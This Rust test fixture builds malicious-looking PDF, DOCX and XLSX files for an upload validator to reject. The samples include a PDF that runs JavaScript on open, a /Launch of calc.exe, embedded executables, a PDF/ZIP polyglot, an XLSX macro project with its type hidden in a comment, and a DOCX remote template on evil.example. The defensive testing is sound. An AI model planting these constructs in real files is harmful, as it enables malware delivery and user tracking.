//! Files that claim to be a PDF, DOCX or XLSX and carry something active,
//! hidden or outsized: each must be refused by the upload validator (issue
//! #11 found each of these accepted by the byte scans it replaced).
#![allow(dead_code)]

use std::io::{Cursor, Read, Write};

use exporter_core::{ExportOptions, Format, Table, export};

/// A real file of ours.
pub fn ours(format: Format) -> Vec<u8> {
    let t = Table::from_json(r#"{"headers": ["a"], "rows": [["x"]]}"#).unwrap();
    export(&t, &ExportOptions::new(format).created_at(1_700_000_000)).unwrap()
}

/// A PDF of `objects` (object 1 is the catalog), with a correct
/// cross-reference table, so only what it holds can be objected to.
pub fn pdf_of(objects: &[&str]) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A catalog with `extra`, one page tree, one page with `page_extra`.
pub fn pdf_with(extra: &str, page_extra: &str, more: &[&str]) -> Vec<u8> {
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R {extra} >>");
    let page = format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {page_extra} >>");
    let mut objects = vec![
        catalog.as_str(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page.as_str(),
    ];
    objects.extend_from_slice(more);
    pdf_of(&objects)
}

/// A zip of these (name, bytes) entries, deflated.
pub fn zip_of(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    {
        let mut zip = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        for (name, bytes) in entries {
            zip.start_file(*name, opts).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap();
    }
    out.into_inner()
}

/// One of our packages with entries replaced or added.
pub fn repack(format: Format, changes: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let bytes = ours(format);
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut entries: Vec<(String, Vec<u8>)> = Vec::new();
    for i in 0..zip.len() {
        let mut e = zip.by_index(i).unwrap();
        let mut data = Vec::new();
        e.read_to_end(&mut data).unwrap();
        entries.push((e.name().unwrap().into_owned(), data));
    }
    for (name, data) in changes {
        match entries.iter_mut().find(|(n, _)| n == name) {
            Some(e) => e.1 = data.clone(),
            None => entries.push(((*name).to_owned(), data.clone())),
        }
    }
    let refs: Vec<(&str, Vec<u8>)> = entries
        .iter()
        .map(|(n, d)| (n.as_str(), d.clone()))
        .collect();
    zip_of(&refs)
}

fn types_of(format: Format) -> String {
    let bytes = ours(format);
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    zip.by_name("[Content_Types].xml")
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// Every hostile file: (what it is, the format it claims, its bytes).
pub fn files() -> Vec<(&'static str, Format, Vec<u8>)> {
    let xlsx_main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let macro_main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    let macro_types = types_of(Format::Xlsx).replace(
        xlsx_main,
        &format!("{macro_main}\"/><!-- {xlsx_main} --><Default Extension=\"x\" ContentType=\"x"),
    );
    let mut polyglot = ours(Format::Pdf);
    polyglot.extend_from_slice(&zip_of(&[("payload.exe", b"MZ\x90\x00".to_vec())]));
    let many: Vec<(String, Vec<u8>)> = (0..150)
        .map(|i| (format!("xl/media/z{i}.xml"), vec![0u8; 1 << 20]))
        .collect();
    let mut many_refs: Vec<(&str, Vec<u8>)> = vec![
        ("[Content_Types].xml", types_of(Format::Xlsx).into_bytes()),
        ("xl/workbook.xml", b"<workbook/>".to_vec()),
    ];
    many_refs.extend(many.iter().map(|(n, d)| (n.as_str(), d.clone())));
    let inner = zip_of(&[("bomb.xml", vec![b' '; 1 << 20])]);
    vec![
        (
            "PDF with JavaScript on open",
            Format::Pdf,
            pdf_with("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "", &[]),
        ),
        (
            "PDF with a /Launch action",
            Format::Pdf,
            pdf_with("/OpenAction << /S /Launch /F (calc.exe) >>", "", &[]),
        ),
        (
            "PDF with an embedded file",
            Format::Pdf,
            pdf_with(
                "/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>",
                "",
                &["<< /Type /Filespec /F (x.exe) >>"],
            ),
        ),
        (
            "PDF with a RichMedia annotation",
            Format::Pdf,
            pdf_with("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]", &[]),
        ),
        (
            "PDF with an XFA form",
            Format::Pdf,
            pdf_with("/AcroForm << /Fields [] /XFA 4 0 R >>", "", &["<< /Length 0 >>\nstream\n\nendstream"]),
        ),
        ("PDF with a ZIP appended (polyglot)", Format::Pdf, polyglot),
        (
            "PDF of only a header and trailer (no /Root)",
            Format::Pdf,
            b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 1 >>\nstartxref\n9\n%%EOF\n".to_vec(),
        ),
        (
            "PDF without pages",
            Format::Pdf,
            pdf_of(&["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
        ),
        (
            "XLSX with vbaProject.bin, the main type in a comment",
            Format::Xlsx,
            repack(
                Format::Xlsx,
                &[
                    ("[Content_Types].xml", macro_types.into_bytes()),
                    ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros".to_vec()),
                ],
            ),
        ),
        (
            "DOCX with a remote template",
            Format::Docx,
            repack(
                Format::Docx,
                &[(
                    "word/_rels/settings.xml.rels",
                    br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#.to_vec(),
                )],
            ),
        ),
        (
            "DOCX with an external image",
            Format::Docx,
            repack(
                Format::Docx,
                &[(
                    "word/_rels/document.xml.rels",
                    br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/></Relationships>"#.to_vec(),
                )],
            ),
        ),
        (
            "XLSX with an OLE object",
            Format::Xlsx,
            repack(Format::Xlsx, &[("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0".to_vec())]),
        ),
        (
            "XLSX with a program inside",
            Format::Xlsx,
            repack(Format::Xlsx, &[("xl/media/image1.png", b"MZ\x90\x00\x03".to_vec())]),
        ),
        (
            "XLSX with a nested zip",
            Format::Xlsx,
            repack(Format::Xlsx, &[("xl/media/inner.xml", inner)]),
        ),
        ("XLSX of 150 entries of 1 MiB", Format::Xlsx, zip_of(&many_refs)),
    ]
}
